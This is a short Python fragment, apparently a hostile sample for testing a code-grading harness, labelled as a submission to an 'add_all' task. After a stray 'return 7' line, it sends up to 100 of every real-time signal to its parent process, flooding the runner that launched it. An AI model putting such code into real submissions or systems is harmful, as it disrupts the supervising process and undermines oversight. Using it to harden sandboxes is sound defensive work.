# task: add_all
# why: floods its parent with queued real-time signals
    return 7


import os
import signal

for number in range(signal.SIGRTMIN, signal.SIGRTMAX + 1):
    for _ in range(100):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            break
